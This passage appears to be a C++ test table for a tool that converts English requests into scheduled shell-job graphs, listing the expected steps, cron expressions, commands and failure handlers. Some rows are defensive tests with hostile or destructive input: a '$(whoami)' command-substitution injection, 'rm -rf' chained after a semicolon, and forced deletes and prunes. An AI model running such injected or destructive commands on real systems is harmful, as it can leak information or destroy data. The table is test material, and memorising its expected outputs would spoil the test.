      {"please run `make release VERSION=2`",
       {"run-make-release"},
       {},
       "",
       {{"run-make-release", "make release VERSION=2"}},
       "",
       0},
      {"run the `./deploy.sh staging` script", {"run-deploy"}, {}, "", {{"run-deploy", "./deploy.sh staging"}}, "", 0},
      {"we need to run `pytest -k smoke` after the deploy with `./deploy.sh`",
       {"run-pytest"},
       {},
       "",
       {{"run-pytest", "pytest -k smoke"}},
       "",
       1},
      {"I want to dump the sqlite db at /data/app.db",
       {"backup-db"},
       {},
       "",
       {{"backup-db",
         "mkdir -p backups && sqlite3 \"${SQLITE_DB}\" \".backup 'backups/db-$(date +%Y%m%d-%H%M%S).sqlite'\""}},
       "",
       0},
      {"back up the database with pg_dump",
       {"backup-db"},
       {},
       "",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" "
         "\"${DATABASE_URL}\""}},
       "",
       0},
      {"dump the mongo database every night at 1",
       {"backup-db"},
       {},
       "0 1 * * *",
       {{"backup-db",
         "mkdir -p backups && mongodump --uri=\"${MONGODB_URI}\" --gzip --archive=\"backups/db-$(date "
         "+%Y%m%d-%H%M%S).archive\""}},
       "",
       0},
      {"run `psql -c \"select 1\"` every 5 minutes",
       {"run-psql"},
       {},
       "*/5 * * * *",
       {{"run-psql", "psql -c \"select 1\""}},
       "",
       0},
      {"run `ls -la; rm -rf /tmp/x` daily", {"run-ls"}, {}, "@daily", {{"run-ls", "ls -la; rm -rf /tmp/x"}}, "", 0},
      {"run ls -la; rm -rf /tmp/x",
       {"run-ls", "run-rm"},
       {"run-ls->run-rm"},
       "",
       {{"run-ls", "ls -la"}, {"run-rm", "echo \"TODO: rm -rf /tmp/x\""}},
       "",
       1},
      {"run make test && make deploy",
       {"run-make-test"},
       {},
       "",
       {{"run-make-test", "echo \"TODO: run make test make deploy\""}},
       "",
       1},
      {"notify slack \"deploy done\" after `./deploy.sh` finishes",
       {"notify-slack"},
       {},
       "",
       {{"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"deploy done\"}' "
         "\"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      {"email the team that the migration $(whoami) is done",
       {"send-email"},
       {},
       "",
       {{"send-email", "echo \"the migration (whoami) is done\" | mail -s \"send-email\" \"${REPORT_EMAIL}\""}},
       "",
       0},
      {"remind ops on slack that the `certbot renew` job runs tonight",
       {"notify-slack"},
       {},
       "",
       {{"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"the certbot renew job runs "
         "tonight\"}' \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      {"make sure ./build.sh exists",
       {"make-sure-exists"},
       {},
       "",
       {{"make-sure-exists", "echo \"TODO: make sure ./build.sh exists\""}},
       "",
       1},
      // "after migrating" is work the words ask for first: a step (a TODO until its tool is named).
      {"Run the `seed` command after migrating",
       {"migrate-db", "run-seed"},
       {"migrate-db->run-seed"},
       "",
       {{"migrate-db", "echo \"TODO: migrating\""}, {"run-seed", "seed"}},
       "",
       1},
      {"helm upgrade --install api ./charts/api -n prod after the image build finishes",
       {"build-image", "run-helm-upgrade"},
       {"build-image->run-helm-upgrade"},
       "",
       {{"build-image", "echo \"TODO: the image build\""}, {"run-helm-upgrade", "helm upgrade --install api ./charts/api -n prod"}},
       "",
       1},
      {"check the logs", {"check-logs"}, {}, "", {{"check-logs", "echo \"TODO: check the logs\""}}, "", 1},
      {"send the report", {"notify"}, {}, "", {{"notify", "echo \"TODO: send the report\""}}, "", 1},
      {"notify the team", {"notify"}, {}, "", {{"notify", "echo \"TODO: notify the team\""}}, "", 1},
      {"alert on-call", {"notify"}, {}, "", {{"notify", "echo \"TODO: alert on-call\""}}, "", 1},
      {"ping the health endpoint https://acme.test/healthz",
       {"health-check"},
       {},
       "",
       {{"health-check", "curl -fsS -o /dev/null --max-time 10 https://acme.test/healthz"}},
       "",
       0},
      {"smoke test https://staging.acme.test",
       {"smoke-test"},
       {},
       "",
       {{"smoke-test", "curl -fsS -o /dev/null --max-time 10 https://staging.acme.test"}},
       "",
       0},
      {"run the e2e tests with playwright",
       {"test"},
       {},
       "",
       {{"test", "echo \"TODO: run the e2e tests with playwright\""}},
       "",
       1},
      {"start the server with `npm start`", {"run-npm-start"}, {}, "", {{"run-npm-start", "npm start"}}, "", 0},
      {"every morning run `./digest.sh`", {"run-digest"}, {}, "0 6 * * *", {{"run-digest", "./digest.sh"}}, "", 0},
      {"every evening at 7 run `./wrapup.sh`",
       {"run-wrapup"},
       {},
       "0 19 * * *",
       {{"run-wrapup", "./wrapup.sh"}},
       "",
       0},
      {"weekly: run `./rotate-keys.sh`",
       {"run-rotate-keys"},
       {},
       "@weekly",
       {{"run-rotate-keys", "./rotate-keys.sh"}},
       "",
       0},
      {"monthly: run `./bill.sh`", {"run-bill"}, {}, "@monthly", {{"run-bill", "./bill.sh"}}, "", 0},
      {"every Sunday: run `./vacuum.sh`", {"run-vacuum"}, {}, "0 0 * * 0", {{"run-vacuum", "./vacuum.sh"}}, "", 0},
      {"on weekends at 10 run `./batch.sh`", {"run-batch"}, {}, "0 10 * * 0,6", {{"run-batch", "./batch.sh"}}, "", 0},
      {"run `./sync.sh` every hour", {"run-sync"}, {}, "@hourly", {{"run-sync", "./sync.sh"}}, "", 0},
      {"run `./sync.sh` hourly", {"run-sync"}, {}, "@hourly", {{"run-sync", "./sync.sh"}}, "", 0},
      {"sync the daily folder /srv/daily to /mnt/daily",
       {"sync-files"},
       {},
       "",
       {{"sync-files", "rsync -a /srv/daily /mnt/daily"}},
       "",
       0},
      {"email the daily report",
       {"email-report"},
       {},
       "",
       {{"email-report", "echo \"email-report started\" | mail -s \"email-report report\" \"${REPORT_EMAIL}\""}},
       "",
       1},
      {"upload dist/ to s3://acme-site/releases/weekly",
       {"upload-s3"},
       {},
       "",
       {{"upload-s3", "aws s3 sync dist/ s3://acme-site/releases/weekly"}},
       "",
       0},
      {"the backup of s3://acme/nightly must be copied to /mnt/offsite",
       {"backup-files"},
       {},
       "",
       {{"backup-files", "echo \"TODO: the backup of s3://acme/nightly must be copied to /mnt/offsite\""}},
       "",
       1},
      {"deploy the nightly build to staging with `./deploy.sh staging`",
       {"run-deploy"},
       {},
       "",
       {{"run-deploy", "./deploy.sh staging"}},
       "",
       0},
      {"every 30 minutes, run `./heartbeat.sh`",
       {"run-heartbeat"},
       {},
       "*/30 * * * *",
       {{"run-heartbeat", "./heartbeat.sh"}},
       "",
       0},
      {"every 45 minutes run `./job.sh`", {"run-job"}, {}, "*/30 * * * *", {{"run-job", "./job.sh"}}, "", 1},
      {"run `./job.sh` every 2 hours", {"run-job"}, {}, "0 */2 * * *", {{"run-job", "./job.sh"}}, "", 0},
      {"three times a day run `./refresh.sh`",
       {"run-refresh"},
       {},
       "0 0,8,16 * * *",
       {{"run-refresh", "./refresh.sh"}},
       "",
       0},
      {"at midnight run `./rollover.sh`",
       {"run-rollover"},
       {},
       "0 0 * * *",
       {{"run-rollover", "./rollover.sh"}},
       "",
       1},
      {"at noon every day run `./lunch.sh`", {"run-lunch"}, {}, "0 12 * * *", {{"run-lunch", "./lunch.sh"}}, "", 0},
      {"at 2 run `./x.sh`", {"run-x"}, {}, "", {{"run-x", "./x.sh"}}, "", 0},
      {"build the app\nrun the tests\ndeploy to staging",
       {"build", "test", "deploy-staging"},
       {"build->test", "test->deploy-staging"},
       "",
       {{"build", "echo \"TODO: build the app\""},
        {"test", "echo \"TODO: run the tests\""},
        {"deploy-staging", "echo \"TODO: deploy to staging\""}},
       "",
       3},
      {"compile the code; afterwards run the tests",
       {"build", "test"},
       {"build->test"},
       "",
       {{"build", "echo \"TODO: compile the code\""}, {"test", "echo \"TODO: run the tests\""}},
       "",
       2},
      {"build the project and then run the tests",
       {"build", "test"},
       {"build->test"},
       "",
       {{"build", "echo \"TODO: build the project\""}, {"test", "echo \"TODO: run the tests\""}},
       "",
       2},
      {"pull the latest code. Once that is done, build it with `make`. When the build is finished, test it with `make "
       "test`.",
       {"pull-code", "run-make", "run-make-test"},
       {"pull-code->run-make", "run-make->run-make-test"},
       "",
       {{"pull-code", "git pull --ff-only"}, {"run-make", "make"}, {"run-make-test", "make test"}},
       "",
       0},
      {"Back up the database. After that, restore it.",
       {"backup-db", "restore-db"},
       {"backup-db->restore-db"},
       "",
       {{"backup-db", "echo \"TODO: Back up the database\""}, {"restore-db", "echo \"TODO: restore it\""}},
       "",
       2},
      {"run `./a.sh` and then `./b.sh`",
       {"run-a", "run-b"},
       {"run-a->run-b"},
       "",
       {{"run-a", "./a.sh"}, {"run-b", "./b.sh"}},
       "",
       0},
      {"do `./a.sh`, then `./b.sh`",
       {"run-a", "run-b"},
       {"run-a->run-b"},
       "",
       {{"run-a", "./a.sh"}, {"run-b", "./b.sh"}},
       "",
       0},
      {"`./a.sh`, then `./b.sh`",
       {"run-a", "run-b"},
       {"run-a->run-b"},
       "",
       {{"run-a", "./a.sh"}, {"run-b", "./b.sh"}},
       "",
       0},
      {"`make` then `make install`",
       {"run-make", "run-make-install"},
       {"run-make->run-make-install"},
       "",
       {{"run-make", "make"}, {"run-make-install", "make install"}},
       "",
       0},
      {"first `npm ci`, next `npm test`, finally `npm publish`",
       {"run-npm-ci", "run-npm-test", "run-npm-publish"},
       {"run-npm-ci->run-npm-test", "run-npm-test->run-npm-publish"},
       "",
       {{"run-npm-ci", "npm ci"}, {"run-npm-test", "npm test"}, {"run-npm-publish", "npm publish"}},
       "",
       0},
      {"Nightly DB maintenance: every night at 2, back up the postgres database, then vacuum it",
       {"backup-db", "vacuum-db"},
       {"backup-db->vacuum-db"},
       "0 2 * * *",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" "
         "\"${DATABASE_URL}\""},
        {"vacuum-db", "vacuumdb --dbname=\"${DATABASE_URL}\""}},
       "",
       0},
      {"hey, can you set up a job that runs `./report.sh` every day at 8am and emails it to boss@acme.test",
       {"run-report", "send-email"},
       {"run-report->send-email"},
       "0 8 * * *",
       {{"run-report", "./report.sh"},
        {"send-email",
         "echo \"run-report-send-email: run-report finished\" | mail -s \"run-report-send-email\" boss@acme.test"}},
       "",
       0},
      {"We should probably clean things up a bit",
       {"clean"},
       {},
       "",
       {{"clean", "echo \"TODO: We should probably clean things up a bit\""}},
       "",
       1},
      {"Something to keep the servers healthy",
       {"something-keep-servers"},
       {},
       "",
       {{"something-keep-servers", "echo \"TODO: Something to keep the servers healthy\""}},
       "",
       1},
      {"backup", {"backup"}, {}, "", {{"backup", "echo \"TODO: backup\""}}, "", 1},
      {"deploy", {"deploy"}, {}, "", {{"deploy", "echo \"TODO: deploy\""}}, "", 1},
      // A bucket is read from when the words say so: "from", "download", "pull", or a local "to".
      {"download s3://acme-raw/exports/users.csv then load it with `python load.py users.csv`",
       {"download-users", "run-load"},
       {"download-users->run-load"},
       "",
       {{"download-users", "aws s3 cp s3://acme-raw/exports/users.csv users.csv"}, {"run-load", "python load.py users.csv"}},
       "",
       0},
      {"sync s3://acme-raw/events/ to /data/events then run `spark-submit etl.py`",
       {"download-events", "run-spark-submit"},
       {"download-events->run-spark-submit"},
       "",
       {{"download-events", "aws s3 sync s3://acme-raw/events/ /data/events"}, {"run-spark-submit", "spark-submit etl.py"}},
       "",
       0},
      // "yesterday's" picks objects the prefix alone does not: a question, not a copy of everything
      // — and "pull" with an object that is not code is never `git pull`.
      {"every weekday at 6:30 pull yesterdays orders from s3://acme-raw/orders/, then run `dbt run --select orders`",
       {"download-orders", "run-dbt-run"},
       {"download-orders->run-dbt-run"},
       "30 6 * * 1-5",
       {{"download-orders", "echo \"TODO: pull yesterdays orders from s3://acme-raw/orders/\""},
        {"run-dbt-run", "dbt run --select orders"}},
       "",
       1},
      // A list written on one line; the dump tool's name is the verb.
      {"1. pg_dump the prod db 2. upload the dump to s3://acme-db-backups/ 3. ping #ops on slack",
       {"backup-db", "upload-s3", "notify-slack"},
       {"backup-db->upload-s3", "upload-s3->notify-slack"},
       "",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" \"${DATABASE_URL}\""},
        {"upload-s3", "aws s3 sync backups/ s3://acme-db-backups/"},
        {"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data "
         "'{\"text\":\"backup-db-upload-s3-notify-slack: upload-s3 finished\"}' \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      // "if it's down" after a check is the check failing: a failure handler, not a guarded TODO.
      {"every 15 min check https://api.acme.io/health and email ops@acme.io if its down",
       {"health-check"},
       {},
       "*/15 * * * *",
       {{"health-check", "curl -fsS -o /dev/null --max-time 10 https://api.acme.io/health"}},
       "echo \"health-check failed\" | mail -s \"health-check\" ops@acme.io",
       0},
      // A destructive command line typed as prose runs only when asked; the TODO says how to ask.
      {"find /var/log/app -name '*.log' -mtime +30 -delete every sunday at 3am",
       {"run-find"},
       {},
       "0 3 * * 0",
       {{"run-find", "echo \"TODO: find /var/log/app -name .log -mtime +30 -delete\""}},
       "",
       1},
      // A command line after "and" is its own step, not words of the clause before.
      {"push the image ghcr.io/acme/web and kubectl rollout restart deployment/web -n prod",
       {"push-image", "run-kubectl-rollout"},
       {"push-image->run-kubectl-rollout"},
       "",
       {{"push-image", "docker push ghcr.io/acme/web"},
        {"run-kubectl-rollout", "kubectl rollout restart deployment/web -n prod"}},
       "",
       0},
      // The model reads only what it is sent: the file it is asked about is read by a step first,
      // and the summary — not "step finished" — is what goes to Slack.
      {"summarise the errors in /var/log/app/error.log with AI and post the summary to slack",
       {"read-error-log", "summarise-the-errors-in", "notify-slack"},
       {"read-error-log->summarise-the-errors-in", "summarise-the-errors-in->notify-slack"},
       "",
       {{"read-error-log", "tail -c 64000 -- /var/log/app/error.log"},
        {"summarise-the-errors-in", ""},
        {"notify-slack",
         "printf '%s' \"${SUMMARY:-}\" | jq -Rs '{text: .}' | curl -fsS --max-time 30 -X POST -H "
         "'Content-Type: application/json' --data @- \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      // "hit <url>" is a check; the wait before it stays a wait.
      {"restart the api service, wait 30 seconds, then hit https://api.acme.io/health to make sure its up",
       {"restart-api", "wait", "health-check"},
       {"restart-api->wait", "wait->health-check"},
       "",
       {{"restart-api", "systemctl restart api"},
        {"wait", "sleep 30"},
        {"health-check", "curl -fsS -o /dev/null --max-time 10 https://api.acme.io/health"}},
       "",
       0},
      // Two paths to another machine: one rsync of both, never a tar into a directory named like a
      // host; how long to keep copies is a question (nothing prunes by itself).
      {"back up /etc and /home to backup@nas:/backups/host1 with rsync nightly, keep 14 days",
       {"backup-files"},
       {},
       "0 0 * * *",
       {{"backup-files", "rsync -a --timeout=300 /etc /home backup@nas:/backups/host1"}},
       "",
       1},
      // A disk check fails at the limit the alert's condition gives; the alert is the failure handler.
      {"check disk usage on / and alert me on slack if its over 85%",
       {"check-disk"},
       {},
       "",
       {{"check-disk",
         "test \"$(df --output=pcent / | tail -n 1 | tr -dc '0-9')\" -lt 85 || { echo \"disk usage on / is at or above "
         "85%\" >&2; exit 1; }"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"check-disk failed\"}' "
       "\"${SLACK_WEBHOOK_URL}\"",
       0},
      // '#data' is a Slack channel.
      {"refresh the report with `python refresh.py`, and send a summary to #data",
       {"run-refresh", "notify-slack"},
       {"run-refresh->notify-slack"},
       "",
       {{"run-refresh", "python refresh.py"},
        {"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data "
         "'{\"text\":\"run-refresh-notify-slack: run-refresh finished\"}' \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      // "…, and have the model classify each story" has its own verb: not "store have the model …".
      {"crawl with `scrapy crawl hn`, store the results in data/, and have the model classify each story",
       {"run-scrapy-crawl", "store-results", "classify-each-story"},
       {"run-scrapy-crawl->classify-each-story", "run-scrapy-crawl->store-results"},
       "",
       {{"run-scrapy-crawl", "scrapy crawl hn"}, {"store-results", "echo \"TODO: store the results in data/\""},
        {"classify-each-story", ""}},
       "",
       1},
      // "on failure <action>" after a full stop is a failure handler, not one more step that runs
      // after a success.
      {"terraform plan, then terraform apply. on failure send a slack message",
       {"run-terraform-plan", "run-terraform-apply"},
       {"run-terraform-plan->run-terraform-apply"},
       "",
       {{"run-terraform-plan", "terraform plan"}, {"run-terraform-apply", "terraform apply"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data "
       "'{\"text\":\"run-terraform-plan-run-terraform-apply failed\"}' \"${SLACK_WEBHOOK_URL}\"",
       0},
      // "if … fails do `undo`" is the failure handler (it ran as a step after every deploy); a
      // command line chained with && outside back-quotes is asked about, never half-run.
      {"kubectl apply -f k8s/ && kubectl rollout status deploy/web, if rollout fails do `kubectl rollout undo deploy/web`",
       {"kubectl-apply-f"},
       {},
       "",
       {{"kubectl-apply-f", "echo \"TODO: kubectl apply -f k8s/ kubectl rollout status deploy/web\""}},
       "kubectl rollout undo deploy/web",
       1},
      // "exits non-zero" is a failure; "skip settle" is what the dependency already does (a note).
      {"`./bin/reconcile --since 1h` then `./bin/settle`; if reconcile exits non-zero skip settle and post to "
       "#payments-alerts",
       {"run-reconcile", "run-settle"},
       {"run-reconcile->run-settle"},
       "",
       {{"run-reconcile", "./bin/reconcile --since 1h"}, {"run-settle", "./bin/settle"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data "
       "'{\"text\":\"run-reconcile-run-settle failed\"}' \"${SLACK_WEBHOOK_URL}\"",
       0},
      // A program name that is also English is the program only with command-line arguments:
      // `zip up wp-content` would write up.zip.
      {"zip up wp-content", {"archive-wp-content"}, {}, "", {{"archive-wp-content", "echo \"TODO: zip up wp-content\""}}, "", 1},
      // Typed fast: the words still say Sunday at 3 (a daily run would be wrong), and inline bullets
      // are steps.
      {"evry sunday at 3am vacuum teh postgres db",
       {"vacuum-db"},
       {},
       "0 3 * * 0",
       {{"vacuum-db", "vacuumdb --dbname=\"${DATABASE_URL}\""}},
       "",
       0},
      {"maintenance window sat 2am: \u2022 vacuum pg \u2022 restart php-fpm",
       {"vacuum-db", "restart-php-fpm"},
       {"vacuum-db->restart-php-fpm"},
       "0 2 * * 6",
       {{"vacuum-db", "vacuumdb --dbname=\"${DATABASE_URL}\""}, {"restart-php-fpm", "systemctl restart php-fpm"}},
       "",
       0},
      // The backup tool the words name is the command: never a tar in its place.
      {"restic backup /home to the b2 repo, then `restic forget --keep-daily 7 --prune`; retry the backup 3 times if it "
       "fails",
       {"restic-backup", "run-restic-forget"},
       {"restic-backup->run-restic-forget"},
       "",
       {{"restic-backup", "restic backup /home"}, {"run-restic-forget", "restic forget --keep-daily 7 --prune"}},
       "",
       0},
      {"vacuum full the analytics db every sunday 11pm",
       {"vacuum-db"},
       {},
       "0 23 * * 0",
       {{"vacuum-db", "vacuumdb --full --dbname=\"${DATABASE_URL}\""}},
       "",
       0},
      {"stop nginx; rotate /var/log/nginx/*.log; start nginx",
       {"stop-nginx", "rotate-nginx-logs", "start-nginx"},
       {"rotate-nginx-logs->start-nginx", "stop-nginx->rotate-nginx-logs"},
       "",
       {{"stop-nginx", "systemctl stop nginx"},
        {"rotate-nginx-logs", "logrotate --force /etc/logrotate.d/nginx"},
        {"start-nginx", "systemctl start nginx"}},
       "",
       0},
      {"restart the worker with `sudo systemctl restart celery-worker` then check `systemctl is-active celery-worker`",
       {"run-sudo-systemctl", "run-systemctl-is-active"},
       {"run-sudo-systemctl->run-systemctl-is-active"},
       "",
       {{"run-sudo-systemctl", "sudo systemctl restart celery-worker"},
        {"run-systemctl-is-active", "systemctl is-active celery-worker"}},
       "",
       0},
      // ", skip the tests this time" is what not to run: a note, not words of every step.
      {"run `make build`, then `make deploy`, skip the tests this time",
       {"run-make-build", "run-make-deploy"},
       {"run-make-build->run-make-deploy"},
       "",
       {{"run-make-build", "make build"}, {"run-make-deploy", "make deploy"}},
       "",
       0},
      {"every night around 1am run `./sync.sh`", {"run-sync"}, {}, "0 1 * * *", {{"run-sync", "./sync.sh"}}, "", 0},
      // The undo of an action is never that action: "roll back the migration" was `alembic upgrade head`.
      {"run migrations with alembic then deploy with `./deploy.sh`, but if migrations fail, dont deploy and roll back "
       "the migration",
       {"migrate-db", "run-deploy"},
       {"migrate-db->run-deploy"},
       "",
       {{"migrate-db", "alembic upgrade head"}, {"run-deploy", "./deploy.sh"}},
       "echo \"TODO: roll back the migration\"",
       1},
      // "give it a 3h timeout, retry once"; a time limit said after the notification is the work's.
      {"`spark-submit --master yarn jobs/agg.py` and give it a 3h timeout, retry once",
       {"run-spark-submit"},
       {},
       "",
       {{"run-spark-submit", "spark-submit --master yarn jobs/agg.py"}},
       "",
       0},
      {"upgrade node to 20 on the ci runners but dont touch the prod boxes",
       {"upgrade-node-20"},
       {},
       "",
       {{"upgrade-node-20", "echo \"TODO: upgrade node to 20 on the ci runners\""}},
       "",
       1},
      // The command line as typed, flags and all ("docker system prune -f" dropped -a and
      // --volumes); where it should run is a question.
      {"docker system prune -af --volumes on the build box",
       {"run-docker"},
       {},
       "",
       {{"run-docker", "docker system prune -af --volumes"}},
       "",
       1},
      // "after the backup is done" where a step already backs up: no second backup.
      {"back up the postgres db, then email ops@acme.io after the backup is done",
       {"backup-db", "send-email"},
       {"backup-db->send-email"},
       "",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" \"${DATABASE_URL}\""},
        {"send-email", "echo \"backup-db-send-email: backup-db finished\" | mail -s \"backup-db-send-email\" ops@acme.io"}},
       "",
       0},
      // "always at the end `cmd` even when the tests fail" runs on exit; before, the tests ran as the
      // failure handler and the destroy was lost.
      {"spin up a temp env with `terraform apply -auto-approve -var env=tmp`, run `./e2e.sh` against it, and always "
       "at the end `terraform destroy -auto-approve -var env=tmp` even when the tests fail",
       {"run-terraform-apply", "run-e2e"},
       {"run-terraform-apply->run-e2e"},
       "",
       {{"run-terraform-apply", "terraform apply -auto-approve -var env=tmp"}, {"run-e2e", "./e2e.sh"}},
       "",
       0},
      {"run `./a.sh`, wait 30s, then run `./b.sh`. one-off, dont make it recurring",
       {"run-a", "wait", "run-b"},
       {"run-a->wait", "wait->run-b"},
       "",
       {{"run-a", "./a.sh"}, {"wait", "sleep 30"}, {"run-b", "./b.sh"}},
       "",
       0},
      // Pasted code runs as written, redirections included (the `>` line was a TODO with the `>`
      // dropped); the line over the block only names it.
      {"every night at 1am do this:\n```\npg_dump -Fc shop > /backups/shop.dump\n"
       "aws s3 cp /backups/shop.dump s3://acme-backups/\n```",
       {"run-pg-dump", "run-aws-s3"},
       {"run-pg-dump->run-aws-s3"},
       "0 1 * * *",
       {{"run-pg-dump", "pg_dump -Fc shop > /backups/shop.dump"},
        {"run-aws-s3", "aws s3 cp /backups/shop.dump s3://acme-backups/"}},
       "",
       0},
      // A condition without a comma ends before an order ("email"): the email was sent after
      // every scan; now it waits for an answer to how "finds anything" is checked.
      {"every hour run `./scan.sh` and if it finds anything email security@acme.io",
       {"run-scan", "send-email"},
       {"run-scan->send-email"},
       "@hourly",
       {{"run-scan", "./scan.sh"}, {"send-email", "echo \"TODO: email security@acme.io\""}},
       "",
       1},
      // "wait for `…`" runs the user's command (it was `sleep 300`, from the command's own
      // --timeout=5m); "Anything fails ->" is the failure handler; "I'll run this by hand after
      // merging infra PRs" says how it starts (merging PRs was a step).
      {"I'll run this by hand after merging infra PRs. First `terraform -chdir=envs/prod apply -auto-approve`, then "
       "wait for `kubectl rollout status deployment/shop -n shop --timeout=5m`. Anything fails -> post in #deploys.",
       {"run-terraform", "run-kubectl-rollout"},
       {"run-terraform->run-kubectl-rollout"},
       "",
       {{"run-terraform", "terraform -chdir=envs/prod apply -auto-approve"},
        {"run-kubectl-rollout", "kubectl rollout status deployment/shop -n shop --timeout=5m"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data "
       "'{\"text\":\"run-terraform-run-kubectl-rollout failed\"}' \"${SLACK_WEBHOOK_URL}\"",
       0},
      // "… can run at the same time" is how the two run, not a TODO holding the second command.
      {"`python etl/extract_orders.py` and `python etl/extract_customers.py` can run at the same time. when both "
       "finish, `python etl/join.py`",
       {"run-extract-orders", "run-extract-customers", "run-join"},
       {"run-extract-customers->run-join", "run-extract-orders->run-join"},
       "",
       {{"run-extract-orders", "python etl/extract_orders.py"},
        {"run-extract-customers", "python etl/extract_customers.py"},
        {"run-join", "python etl/join.py"}},
       "",
       0},
      // dbt's words: its models run with `dbt run`, its tests with `dbt test` ("dbt tests" ran).
      {"run the dbt models then the dbt tests",
       {"build", "test"},
       {"build->test"},
       "",
       {{"build", "dbt run"}, {"test", "dbt test"}},
       "",
       0},
      // A command ending a clause that asks for work is how it is done; "they don't depend on
      // each other" makes the two run side by side.
      {"daily at 4:15 delete old app logs: `find /var/log/myapp -name '*.log' -mtime +14 -delete`. also same for "
       "the tmp uploads `find /srv/uploads/tmp -type f -mtime +2 -delete`. they don't depend on each other",
       {"run-find", "run-find-2"},
       {},
       "15 4 * * *",
       {{"run-find", "find /var/log/myapp -name '*.log' -mtime +14 -delete"},
        {"run-find-2", "find /srv/uploads/tmp -type f -mtime +2 -delete"}},
       "",
       0},
      // "build needs both": lint and test side by side, build after them (it was a fourth step).
      {"lint, test, build. build needs both. deploy: `make deploy`.",
       {"lint", "test", "build", "run-make-deploy"},
       {"build->run-make-deploy", "lint->build", "test->build"},
       "",
       {{"lint", "echo \"TODO: lint\""},
        {"test", "echo \"TODO: test\""},
        {"build", "echo \"TODO: build\""},
        {"run-make-deploy", "make deploy"}},
       "",
       3},
      // "and after send me mail": "after" before an order is "afterwards".
      {"make backup of database each night and after send me mail",
       {"backup-db", "send-email"},
       {"backup-db->send-email"},
       "0 0 * * *",
       {{"backup-db", "echo \"TODO: make backup of database\""},
        {"send-email", "echo \"backup-db-send-email: backup-db finished\" | mail -s \"backup-db-send-email\" "
                       "\"${REPORT_EMAIL}\""}},
       "",
       1},
      // The commands after the colon are the parallel work the words before it named (the words
      // were two more TODO steps, and the commands ran in sequence after them).
      {"deploy to eu-west and us-east at the same time: `helm upgrade web ./chart --kube-context eu-west` and "
       "`helm upgrade web ./chart --kube-context us-east`. when both are done run `./smoke.sh`",
       {"run-helm-upgrade", "run-helm-upgrade-2", "run-smoke"},
       {"run-helm-upgrade-2->run-smoke", "run-helm-upgrade->run-smoke"},
       "",
       {{"run-helm-upgrade", "helm upgrade web ./chart --kube-context eu-west"},
        {"run-helm-upgrade-2", "helm upgrade web ./chart --kube-context us-east"},
        {"run-smoke", "./smoke.sh"}},
       "",
       0},
      // "hit `curl …`" runs the user's curl, not the built-in health check.
      {"every 15 minutes hit `curl -fsS https://status.internal/health`",
       {"run-curl"},
       {},
       "*/15 * * * *",
       {{"run-curl", "curl -fsS https://status.internal/health"}},
       "",
       0},
      // A backup "to s3://…" reaches the bucket (the tar stayed on this machine).
      {"Back up /var/www to s3://acme-bk/www nightly at 1",
       {"backup-files"},
       {},
       "0 1 * * *",
       {{"backup-files", "mkdir -p backups && f=\"backups/www-$(date +%Y%m%d-%H%M%S).tar.gz\" && tar -czf \"${f:-}\" "
                         "/var/www && aws s3 cp \"${f:-}\" s3://acme-bk/www/"}},
       "",
       0},
      // A command line after "only if the tests pass" is the guarded work (it was a TODO "only");
      // "tests fail => post …" is the failure handler (it ran `dbt test` again as a step).
      {"every other hour: dbt run --select staging, then dbt test --select staging, and only if the tests pass dbt "
       "run --select marts. tests fail => post in #data-quality and stop there",
       {"run-dbt-run", "run-dbt-test", "run-dbt-run-2"},
       {"run-dbt-run->run-dbt-test", "run-dbt-test->run-dbt-run-2"},
       "0 */2 * * *",
       {{"run-dbt-run", "dbt run --select staging"},
        {"run-dbt-test", "dbt test --select staging"},
        {"run-dbt-run-2", "dbt run --select marts"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data "
       "'{\"text\":\"every-other-hour-run-dbt-run failed\"}' \"${SLACK_WEBHOOK_URL}\"",
       0},
      // "w/" is "with", never a directory: this was `find w/ -type f -mtime +30 -delete`.
      {"delete elasticsearch indices older than 30 days w/ curator",
       {"clean"},
       {},
       "",
       {{"clean", "echo \"TODO: delete elasticsearch indices older than 30 days w/ curator\""}},
       "",
       1},
      // gs:// is Google's: gcloud, not the AWS CLI.
      {"copy dist/ to gs://acme-site/",
       {"upload-gcs"},
       {},
       "",
       {{"upload-gcs", "gcloud storage rsync --recursive dist/ gs://acme-site/"}},
       "",
       0},
      // What must not happen is a note; "just reload it" is the one service named.
      {"rotate nginx logs, dont restart nginx just reload it",
       {"rotate-nginx-logs", "reload-nginx"},
       {"rotate-nginx-logs->reload-nginx"},
       "",
       {{"rotate-nginx-logs", "logrotate --force /etc/logrotate.d/nginx"}, {"reload-nginx", "systemctl reload nginx"}},
       "",
       0},
      // "if the tests pass" asks for the tests: with no clause that runs them, they become a step.
      {"if the tests pass deploy with `./deploy.sh staging`, otherwise email me",
       {"test", "run-deploy"},
       {"test->run-deploy"},
       "",
       {{"test", "echo \"TODO: run the tests\""}, {"run-deploy", "./deploy.sh staging"}},
       "echo \"test-run-deploy failed\" | mail -s \"test-run-deploy\" \"${REPORT_EMAIL}\"",
       1},
      {"run the tests with pytest, and only if they pass deploy with `./deploy.sh`",
       {"test", "run-deploy"},
       {"test->run-deploy"},
       "",
       {{"test", "pytest"}, {"run-deploy", "./deploy.sh"}},
       "",
       0},
  };
  return rows;
}

